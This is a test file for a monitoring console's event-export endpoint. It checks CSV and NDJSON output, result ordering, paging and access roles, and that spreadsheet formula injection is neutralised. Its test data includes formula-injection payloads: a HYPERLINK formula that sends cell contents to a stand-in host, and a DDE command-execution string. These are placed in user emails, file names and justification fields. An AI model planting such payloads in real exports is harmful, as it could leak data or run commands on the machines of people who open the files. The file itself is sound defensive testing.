// @vitest-environment node
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { KyselyPlugin } from 'kysely';
import { csvCell, exportChunks, EXPORT_PAGE_ROWS } from '../../../console/events/export';
import { EventFilters } from '../../../console/events/search';
import type { ApiEvent } from '../../../console/events/store';
import type { FileEvent } from '../../../src/core/schema/event';
import { makeTestConsole, type TestConsole } from '../support/test-console';
import { sampleEvent, sampleId } from '../support/sample-event';

const BASE = Date.parse('2026-11-22T12:00:00.000Z');

/** RFC 4180: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endRow = () => {
    row.push(cell);
    rows.push(row);
    row = [];
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      endRow();
      i++;
    } else cell += ch;
  }
  if (cell || row.length) throw new Error('CSV does not end with CRLF');
  return rows;
}

const HEADER = [
  'id',
  'observedAt',
  'receivedAt',
  'user',
  'severity',
  'score',
  'indicators',
  'channel',
  'fileName',
  'extension',
  'fileCategory',
  'size',
  'mismatch',
  'destinationCategory',
  'service',
  'host',
  'url',
  'trusted',
  'credential',
  'clientIp',
  'responseAction',
  'responseOutcome',
  'responseRule',
  'justification',
];

// Each of the six formula starts, in a file name and in a user email (both come from the browser).
const INJECTIONS = ['=HYPERLINK("http://x.example/?"&A1)', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tlooks-blank', '\rreturn'];

let built: TestConsole;
let bulk: FileEvent[];
let tricky: FileEvent[];

beforeAll(async () => {
  built = await makeTestConsole();
  const ingestKey = await built.services.credentials.authenticate(built.keys.ingest);
  const context = { credentialId: ingestKey!.credentialId, clientIp: '192.0.2.7' };
  const template = await sampleEvent({ user: { email: 'ana@acme.example' } });
  // More than two export pages of one user, and a few of another.
  bulk = Array.from({ length: EXPORT_PAGE_ROWS * 2 + 37 }, (_, n) => ({
    ...template,
    id: sampleId(10_000 + n),
    observedAt: new Date(BASE - n * 1000).toISOString(),
    user: { email: n % 50 === 0 ? 'bob@acme.example' : 'ana@acme.example' },
  }));
  await built.services.events.ingest(bulk, { ...context, receivedAt: BASE });
  tricky = [];
  for (const [i, text] of INJECTIONS.entries()) {
    tricky.push(
      await sampleEvent({
        id: sampleId(20_000 + i),
        observedAt: new Date(BASE + 1000 + i).toISOString(),
        user: { email: `${text}@evil.example` },
        file: { name: `${text}.csv`, size: 1, mimeType: '' },
      }),
    );
    // A justification is typed by the person: neutralised like any other text.
    tricky.at(-1)!.response = { action: 'warn', outcome: 'bypassed', ruleId: 'ai-warn', justification: text, decidedInMs: 3 };
  }
  tricky.push(
    await sampleEvent({
      id: sampleId(20_100),
      observedAt: new Date(BASE + 2000).toISOString(),
      user: { email: 'eve@acme.example' },
      file: { name: 'a,"b"\nc.txt', size: 1, mimeType: '' },
    }),
  );
  await built.services.events.ingest(tricky, { ...context, receivedAt: BASE + 5000 });
});
afterAll(() => built.close());

const get = (url: string, role: 'read_only' | 'ingest' = 'read_only') => built.app.inject({ method: 'GET', url, headers: built.as(role) });

describe('GET /api/v1/events/export', () => {
  it('streams a whole search as CSV with the documented columns, newest first, across pages', async () => {
    const res = await get('/api/v1/events/export?format=csv&user=ana@acme.example');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename=upwatch-events-\d{8}T\d{6}Z\.csv$/);
    const rows = parseCsv(res.body);
    expect(rows[0]).toEqual(HEADER);
    const want = bulk.filter((e) => e.user.email === 'ana@acme.example');
    expect(rows.length - 1).toBe(want.length);
    expect(rows.slice(1).map((r) => r[0])).toEqual(want.map((e) => e.id));
    const first = Object.fromEntries(HEADER.map((h, i) => [h, rows[1]![i]]));
    const e = want[0]!;
    expect(first).toEqual({
      id: e.id,
      observedAt: e.observedAt,
      receivedAt: new Date(BASE).toISOString(),
      user: 'ana@acme.example',
      severity: e.risk.severity,
      score: String(e.risk.score),
      indicators: e.risk.indicators.map((i) => i.id).join(';'),
      channel: e.channel,
      fileName: e.file.name,
      extension: e.file.extension,
      fileCategory: e.file.category,
      size: String(e.file.size),
      mismatch: String(e.file.mismatch),
      destinationCategory: e.destination.category,
      service: e.destination.serviceId,
      host: e.destination.host,
      url: e.destination.url,
      trusted: 'false',
      credential: 'test-ingest',
      clientIp: '192.0.2.7',
      responseAction: '',
      responseOutcome: '',
      responseRule: '',
      justification: '',
    });
  });

  it('streams NDJSON: one API event per line, the same as the search lists', async () => {
    const res = await get('/api/v1/events/export?format=ndjson&fileName=main');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/filename=upwatch-events-\d{8}T\d{6}Z\.ndjson$/);
    const lines = res.body.split('\n');
    expect(lines.pop()).toBe('');
    const events = lines.map((l) => JSON.parse(l) as ApiEvent);
    expect(events.map((e) => e.id)).toEqual(bulk.map((e) => e.id));
    expect(events[0]).toEqual({ ...bulk[0], received: { at: new Date(BASE).toISOString(), credential: 'test-ingest', clientIp: '192.0.2.7' } });
  });

  it('answers an empty search with the header alone (CSV) or nothing (NDJSON)', async () => {
    expect((await get('/api/v1/events/export?user=nobody@acme.example')).body).toBe(`${HEADER.join(',')}\r\n`);
    expect((await get('/api/v1/events/export?format=ndjson&user=nobody@acme.example')).body).toBe('');
  });

  it.each(INJECTIONS.map((text, i) => [text, i] as const))('neutralises a cell starting with %j', async (text, i) => {
    const res = await get(`/api/v1/events/export?format=csv&receivedFrom=${new Date(BASE + 5000).toISOString()}`);
    const rows = parseCsv(res.body);
    expect(rows.length).toBe(1 + tricky.length);
    const row = rows.find((r) => r[0] === tricky[i]!.id)!;
    expect(row[3]).toBe(`'${text}@evil.example`);
    expect(row[8]).toBe(`'${text}.csv`);
    expect(row.slice(HEADER.indexOf('responseAction'))).toEqual(['warn', 'bypassed', 'ai-warn', `'${text}`]);
    // Commas, quotes and line breaks stay inside their quoted cell.
    expect(rows.find((r) => r[3] === 'eve@acme.example')![8]).toBe('a,"b"\nc.txt');
  });

  it('reads a page only when the reader takes the previous one (nothing read ahead of a slow client)', async () => {
    let queries = 0;
    const counting: KyselyPlugin = {
      transformQuery: (args) => (queries++, args.node),
      transformResult: async (args) => args.result,
    };
    const db = built.services.db.withPlugin(counting);
    const chunks = exportChunks(db, built.services.events, EventFilters.parse({ user: 'ana@acme.example' }), 'ndjson');
    const first = await chunks.next();
    expect(first.value.split('\n')).toHaveLength(EXPORT_PAGE_ROWS + 1);
    const afterFirst = queries;
    await new Promise((resolve) => setImmediate(resolve));
    expect(queries).toBe(afterFirst);
    const second = await chunks.next();
    expect(second.value.split('\n')).toHaveLength(EXPORT_PAGE_ROWS + 1);
    expect(queries).toBeGreaterThan(afterFirst);
    await chunks.return(undefined);
  });

  it('quotes and neutralises cell by cell', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('say "hi", ok')).toBe('"say ""hi"", ok"');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
    expect(csvCell('a=1')).toBe('a=1');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(12)).toBe('12');
  });

  it('lists the events in the order the search was in (oldest, riskiest), the same as paging the search', async () => {
    // Scores spread over the range, several events per score (ties fall back to newest first), over more than two export pages.
    const template = await sampleEvent({ user: { email: 'rita@acme.example' } });
    const scored = Array.from({ length: EXPORT_PAGE_ROWS * 2 + 11 }, (_, n) => ({
      ...template,
      id: sampleId(30_000 + n),
      observedAt: new Date(BASE - 5_000_000 - n * 1000).toISOString(),
      risk: { ...template.risk, score: (n * 37) % 101 },
    }));
    const ingestKey = await built.services.credentials.authenticate(built.keys.ingest);
    await built.services.events.ingest(scored, { credentialId: ingestKey!.credentialId, clientIp: '192.0.2.7', receivedAt: BASE });
    const searched = async (order: string) => {
      const ids: string[] = [];
      let cursor: string | null = null;
      do {
        const url: string = `/api/v1/events?user=rita@acme.example&order=${order}&limit=500${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`;
        const page: { events: ApiEvent[]; nextCursor: string | null } = (await get(url)).json();
        ids.push(...page.events.map((e) => e.id));
        cursor = page.nextCursor;
      } while (cursor);
      return ids;
    };
    const exported = async (order: string) =>
      (await get(`/api/v1/events/export?format=ndjson&user=rita@acme.example&order=${order}`)).body
        .split('\n')
        .filter(Boolean)
        .map((l) => (JSON.parse(l) as ApiEvent).id);

    const riskiest = await exported('riskiest');
    expect(riskiest).toHaveLength(scored.length);
    expect(riskiest).toEqual(await searched('riskiest'));
    const score = new Map(scored.map((e) => [e.id, e.risk.score]));
    expect(riskiest.map((id) => score.get(id))).toEqual(scored.map((e) => e.risk.score).sort((a, b) => b - a));
    // Ties in score: newest first, as the search lists them.
    const top = scored.filter((e) => e.risk.score === 100).map((e) => e.id);
    expect(top.length).toBeGreaterThan(1);
    expect(riskiest.slice(0, top.length)).toEqual(top);

    const oldest = await exported('oldest');
    expect(oldest).toEqual([...scored].reverse().map((e) => e.id));
    expect(oldest).toEqual(await searched('oldest'));
    expect(await exported('newest')).toEqual(scored.map((e) => e.id));
    expect((await get('/api/v1/events/export?order=largest')).statusCode).toBe(400);
  });

  it('validates like the search, and is for reading roles only', async () => {
    expect((await get('/api/v1/events/export?format=xlsx')).statusCode).toBe(400);
    expect((await get('/api/v1/events/export?minSeverity=extreme')).statusCode).toBe(400);
    expect((await get('/api/v1/events/export', 'ingest')).statusCode).toBe(403);
    expect((await built.app.inject({ method: 'GET', url: '/api/v1/events/export' })).statusCode).toBe(401);
  });
});
